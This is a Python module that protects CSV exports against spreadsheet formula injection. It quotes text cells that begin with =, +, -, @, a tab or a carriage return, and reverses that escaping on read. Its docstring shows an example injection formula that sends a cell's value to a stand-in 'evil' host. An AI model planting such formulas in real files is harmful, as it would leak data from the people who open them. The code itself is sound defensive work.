"""Spreadsheet formulas in CSV text cells, neutralised on the way out and restored on
the way in (pure Python and pandas, no ORM).

A study id typed as `=HYPERLINK("http://evil/?"&A1)` would be evaluated by Excel or
LibreOffice when someone opens the cohort CSV (OWASP "CSV Injection"). Following
OWASP's advice, a text cell that begins with one of FORMULA_PREFIXES (=, +, -, @,
tab, carriage return) gets a single quote in front, which spreadsheets show as text
and never evaluate. Only text cells: numbers are written as they are (numeric
columns are never touched, and a text cell that is a plain decimal number such as
"-1.5" is a number to a spreadsheet too, not a formula).

The escape must not change the data: `read_cohort_csv` reads its own export back to
identical values and fingerprints. So the escape is reversible:

* written: a text cell matching `'*[prefix]` (any number of quotes, then a prefix
  character; not a plain number) gets one more quote in front;
* read: a cell matching `'+[prefix]` loses one leading quote.

Every cell the writer escapes starts with a quote and a prefix after the quotes, and
every cell it leaves alone does not match `'+[prefix]`, so reading undoes writing
exactly, whatever the value (even one that already began with quotes).
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # the frame functions get pandas objects; `neutralise` (the report's
    import pandas as pd  # CSV) is plain Python and must not load pandas (issue 16)

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"

_PREFIXES = "".join(re.escape(prefix) for prefix in FORMULA_PREFIXES)
_NEEDS_ESCAPE = re.compile(f"'*[{_PREFIXES}]")
_ESCAPED = re.compile(f"'+[{_PREFIXES}]")
# A plain decimal number ("-1.5", "+3", "-2e-3"): a spreadsheet reads it as a number.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(text: str) -> str:
    """The cell as written: a formula-looking text gets a leading single quote."""
    if _NEEDS_ESCAPE.match(text) and not _PLAIN_NUMBER.fullmatch(text):
        return ESCAPE + text
    return text


def restore(text: str) -> str:
    """The cell as it was before `neutralise` (one leading quote removed)."""
    return text[1:] if _ESCAPED.match(text) else text


def _is_text(series: pd.Series) -> bool:
    import pandas as pd  # loaded already: the series is one

    return series.dtype == object or isinstance(series.dtype, pd.StringDtype)


def _map_text(series: pd.Series, function) -> pd.Series:
    return series.map(lambda value: function(value) if isinstance(value, str) else value)


def neutralise_frame(table: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text cells are safe to open in a spreadsheet; number columns,
    booleans and missing values are left exactly as they are."""
    columns = [column for column in table.columns if _is_text(table[column])]
    if not columns:
        return table
    safe = table.copy()
    for column in columns:
        safe[column] = _map_text(safe[column], neutralise).astype(table[column].dtype)
    return safe


def restore_frame(table: pd.DataFrame) -> pd.DataFrame:
    """Undo neutralise_frame on a table read as text (pd.read_csv(dtype=str))."""
    restored = table.copy()
    for column in table.columns:
        if _is_text(table[column]):
            restored[column] = _map_text(table[column], restore)
    return restored
